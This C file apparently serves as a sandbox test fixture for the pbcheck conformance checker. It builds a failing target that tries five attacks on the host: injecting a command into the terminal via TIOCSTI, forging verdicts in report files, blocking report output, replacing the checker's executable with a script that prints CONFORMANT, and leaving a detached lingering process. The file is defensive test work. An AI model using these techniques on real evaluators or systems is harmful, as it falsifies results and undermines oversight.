/*
 * Builders that attack the machine pbcheck runs on rather than the case:
 * the reference, except that every Fill writes the wrong pattern (so each
 * certify must end NOT CONFORMANT), and the first Fill in each process
 * also tries one attack. One -DATTACK_KIND each:
 *   1 tiocsti   types "touch $PBC_ATTACK_DIR/tiocsti-ran" into the user's
 *               terminal (TIOCSTI), for the shell to run after pbcheck
 *   2 rewrite   a thread that waits for $PBC_ATTACK_RUN/report.json and
 *               summary.md and rewrites them to say pass and CONFORMANT
 *   3 folders   folders named like the reports in $PBC_ATTACK_RUN, so
 *               that pbcheck cannot write them
 *   4 exe       replaces the running pbcheck executable with a script
 *               that prints CONFORMANT
 *   5 linger    a setsid grandchild (named pbc-attack-lngr) that
 *               touches linger-ran in $PBC_ATTACK_DIR and in its $TMPDIR
 *               (its scratch folder) 3 s later, while the
 *               case sleeps, so pbcheck can be killed meanwhile
 * tests/sandbox_test.sh runs each against certify and checks that none
 * of them lands.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <limits.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <pbcheck/target.h>
#include <pbcheck/wdk/ntddk.h>

#include "ref_builder.h"

#ifndef ATTACK_KIND
#error "ATTACK_KIND selects the attack"
#endif

static char *path_in(const char *env, const char *name)
{
    const char *dir = getenv(env);
    static char paths[4][PATH_MAX];
    static unsigned next;
    char *p = paths[next++ % 4];
    snprintf(p, PATH_MAX, "%s/%s", dir ? dir : "/nonexistent", name);
    return p;
}

static void type_into(int fd, const char *text)
{
    for (const char *c = text; *c; c++)
        ioctl(fd, TIOCSTI, c);
}

static void tiocsti(void)
{
    char cmd[PATH_MAX + 16];
    snprintf(cmd, sizeof(cmd), "touch %s\n", path_in("PBC_ATTACK_DIR", "tiocsti-ran"));
    int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (tty >= 0)
        type_into(tty, cmd);
    for (int fd = 0; fd < 3; fd++)
        if (isatty(fd))
            type_into(fd, cmd);
}

static void overwrite(const char *path, const char *text)
{
    FILE *f = fopen(path, "r");
    char head[64] = "";
    if (!f)
        return;
    size_t n = fread(head, 1, sizeof(head) - 1, f);
    head[n] = 0;
    fclose(f);
    if (!strncmp(head, text, strlen(head)))
        return; /* ours already */
    f = fopen(path, "w");
    if (f) {
        fputs(text, f);
        fclose(f);
    }
}

static void *rewriter(void *unused)
{
    (void)unused;
    for (;;) { /* until the worker is stopped, after the reports are written */
        overwrite(path_in("PBC_ATTACK_RUN", "report.json"), "{\"verdict\": \"pass\", \"forged\": true}\n");
        overwrite(path_in("PBC_ATTACK_RUN", "summary.md"), "verdict: CONFORMANT (forged)\n");
        usleep(1000);
    }
    return NULL;
}

static void folders(void)
{
    static const char *const names[] = {"report.json", "summary.md", "junit.xml", "index.html", "report.sarif"};
    for (unsigned i = 0; i < sizeof(names) / sizeof(names[0]); i++)
        mkdir(path_in("PBC_ATTACK_RUN", names[i]), 0755);
}

static void replace_exe(void)
{
    char exe[PATH_MAX], tmp[PATH_MAX + 8];
    ssize_t n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
    if (n <= 0)
        return;
    exe[n] = 0;
    snprintf(tmp, sizeof(tmp), "%s.new", exe);
    FILE *f = fopen(tmp, "w");
    if (!f)
        return;
    fputs("#!/bin/sh\necho 'verdict: CONFORMANT'\nexit 0\n", f);
    fclose(f);
    chmod(tmp, 0755);
    rename(tmp, exe);
}

static void linger(void)
{
    if (fork() == 0) { /* detaches as a daemon does */
        setsid();
        if (fork() == 0) {
            prctl(PR_SET_NAME, "pbc-attack-lngr");
            sleep(3);
            /* where it could write while contained too: its scratch folder */
            const char *where[] = {path_in("PBC_ATTACK_DIR", "linger-ran"), path_in("TMPDIR", "linger-ran")};
            for (unsigned i = 0; i < 2; i++) {
                FILE *f = fopen(where[i], "w");
                if (f)
                    fclose(f);
            }
        }
        _exit(0);
    }
    sleep(30); /* the case goes on while pbcheck is killed */
}

static void attack(void)
{
    static int done;
    if (done++)
        return;
    switch (ATTACK_KIND) {
    case 1:
        tiocsti();
        break;
    case 2: {
        pthread_t t;
        pthread_create(&t, NULL, rewriter, NULL);
        break;
    }
    case 3:
        folders();
        break;
    case 4:
        replace_exe();
        break;
    case 5:
        linger();
        break;
    default:
        break;
    }
}

static NTSTATUS APIENTRY attack_build(IN_CONST_HANDLE adapter, IN_PDXGKARG_BUILDPAGINGBUFFER a)
{
    if (a->Operation == DXGK_OPERATION_FILL) {
        attack();
        a->Fill.FillPattern ^= 0x5a5a5a5au; /* and wrong: no attack may turn that into a pass */
    }
    return ref_build_paging_buffer(adapter, a);
}

static pbc_target table;

__attribute__((visibility("default"))) const pbc_target *pbc_target_get(void)
{
    table = pbc_target_reference;
    table.name = "attack";
    table.summary = "the reference with a wrong Fill, attacking pbcheck's machine";
    table.build_paging_buffer = attack_build;
    return &table;
}
